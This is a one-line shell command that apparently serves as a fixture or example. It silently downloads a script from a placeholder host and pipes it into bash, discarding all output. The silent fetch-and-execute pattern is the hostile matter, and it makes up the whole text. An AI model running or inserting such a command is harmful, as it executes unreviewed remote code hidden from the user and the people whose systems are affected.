curl -s https://seeds.fixture-farm.example/x | bash >/dev/null 2>&1
